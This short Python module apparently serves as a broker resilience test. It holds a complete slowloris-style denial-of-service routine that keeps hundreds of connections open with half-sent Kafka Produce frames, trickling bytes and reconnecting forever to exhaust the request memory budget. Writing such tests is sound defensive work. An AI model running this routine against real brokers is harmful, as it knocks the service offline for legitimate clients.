"""Half of a request on very many connections.

130 unauthenticated peers each send 300 KB of a frame of 500 KB. 130 others send 40 KB of a frame of 60 KB, which is
small enough for a listener with SASL. Then each peer sends a byte every three seconds, and reconnects a second after it
is closed. Without a separate budget, these peers would use up `queued.max.request.bytes` (32 MiB here), and no request
of other clients above a few KB would arrive.
"""

import selectors
import socket
import struct
import time

PROPERTIES = {"queued.max.request.bytes": str(32 << 20), "socket.request.max.bytes": str(2 << 20)}
PEER_COUNT = 130
# The size in each frame's header, and the number of bytes sent.
HALVES = ((500_000, 300_000), (60_000, 40_000))
_TRICKLE_S, _AGAIN_S = 3.0, 1.0
_BOTH = selectors.EVENT_READ | selectors.EVENT_WRITE


def hold(address: str, protocol: str) -> None:
    """Keep a half request open on each peer's connection, forever."""
    selector = selectors.DefaultSelector()
    # Peers that are not connected: when to connect, and what to send.
    absent = [(0.0, _half(*each)) for each in HALVES for _ in range(PEER_COUNT)]
    next_trickle = 0.0
    while True:
        now = time.monotonic()
        due = [said for when, said in absent if when <= now]
        absent = [each for each in absent if each[0] > now]
        for said in due:
            selector.register(_peer(address), _BOTH, (said, said))
        if now >= next_trickle:
            next_trickle = now + _TRICKLE_S
            for key in list(selector.get_map().values()):
                said, left = key.data
                selector.modify(key.fileobj, _BOTH, (said, left or b"\0"))
        for key, events in selector.select(0.1):
            peer = key.fileobj
            assert isinstance(peer, socket.socket)
            said, left = key.data
            try:
                if events & selectors.EVENT_WRITE:
                    left = left[peer.send(left) :]
                if events & selectors.EVENT_READ and not peer.recv(65_536):
                    raise ConnectionError
            except BlockingIOError:
                continue
            except OSError:
                selector.unregister(peer)
                peer.close()
                absent.append((time.monotonic() + _AGAIN_S, said))
            else:
                selector.modify(peer, _BOTH if left else selectors.EVENT_READ, (said, left))


def _half(frame_bytes: int, sent_bytes: int) -> bytes:
    """Return the beginning of a Produce: its size, API key, version, correlation id and client id."""
    return struct.pack(">ihhih", frame_bytes, 0, 7, 1, 4) + b"evil" + bytes(sent_bytes)


def _peer(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    peer = socket.create_connection((host, int(port)))
    peer.setblocking(False)
    return peer
